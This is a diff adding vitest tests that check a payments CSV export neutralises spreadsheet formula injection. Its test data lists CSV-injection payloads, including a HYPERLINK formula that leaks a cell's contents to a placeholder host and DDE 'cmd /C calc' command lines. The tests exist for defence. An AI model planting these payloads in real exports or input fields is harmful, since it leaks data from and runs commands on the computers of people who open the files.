@@ -1,5 +1,6 @@
 import type { PaymentHistoryItem } from '@shared/payments';
 import { describe, expect, it } from 'vitest';
+import { guardCell, toCsv } from '../../src/server/http/csv';
 import { paymentHistoryCsv } from '../../src/server/modules/payments/csv';
 
 const item = (overrides: Partial<PaymentHistoryItem> = {}): PaymentHistoryItem => ({
@@ -41,5 +42,61 @@ describe('paymentHistoryCsv', () => {
       item({ id: 'trade-1-pending', status: 'pending', amountCents: 9500 }),
     ]).split('\r\n');
     expect(row).toMatch(/;Venda;.*;Pendente;95,00$/);
+  });
+});
+
+/** What members type to turn an export into a live formula (OWASP CSV injection), each as it arrives. */
+const attacks = [
+  '=HYPERLINK("http://x.test/?d="&A1;"Clique")',
+  'Boa venda,=HYPERLINK("http://x.test")',
+  'Boa venda, =HYPERLINK("http://x.test")',
+  'linha 1\n=HYPERLINK("http://x.test")',
+  "linha 1\r\n+cmd|' /C calc'!A0",
+  "a;@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  'x\t-2+3',
+  'x,"=1+1"',
+  '-1+1',
+];
+
+/**
+ * Every piece a spreadsheet could make a cell of, however it splits the file: at `;`, `,` or tabs, at every line
+ * break (even inside quotes), with the leading spaces and quotes an import strips.
+ */
+function piecesOf(csv: string, separator: string): string[] {
+  return csv
+    .replace(/^\uFEFF/, '')
+    .split(/\r\n|\r|\n/)
+    .flatMap((line) => line.split(separator))
+    .map((piece) => piece.replace(/^[ "]+/, ''));
+}
+
+const isFormula = (piece: string) => /^[=+\-@\t]/.test(piece) && !/^-?\d+(?:[.,]\d+)?$/.test(piece);
+
+describe('the formula guard of every export (CSV injection)', () => {
+  it('leaves no piece starting a formula, whatever the separator a spreadsheet splits with', () => {
+    const csv = paymentHistoryCsv(
+      attacks.map((attack, n) =>
+        item({ id: `${n}-sale`, description: attack, productTitle: attack, buyerName: attack }),
+      ),
+    );
+    for (const separator of [';', ',', '\t']) {
+      expect(piecesOf(csv, separator).filter(isFormula), `split at ${JSON.stringify(separator)}`).toEqual([]);
+    }
+    const generic = toCsv([{ header: 'Mensagem', value: (text: string) => text }], attacks);
+    for (const separator of [';', ',', '\t'])
+      expect(piecesOf(generic, separator).filter(isFormula)).toEqual([]);
+  });
+
+  it('puts a quote before each formula start and changes nothing else', () => {
+    expect(guardCell('Boa venda,=HYPERLINK("http://x.test")')).toBe(
+      'Boa venda,\'=HYPERLINK("http://x.test")',
+    );
+    expect(guardCell('linha 1\n=1+1')).toBe("linha 1\n'=1+1");
+    expect(guardCell('\t=1')).toBe("'\t'=1");
+    expect(guardCell('Skin-AK 5 - 10, sem @ no meio')).toBe('Skin-AK 5 - 10, sem @ no meio');
+    // A number the server wrote stays a number.
+    expect(guardCell('-61,73')).toBe('-61,73');
+    expect(guardCell(-5)).toBe('-5');
   });
 });
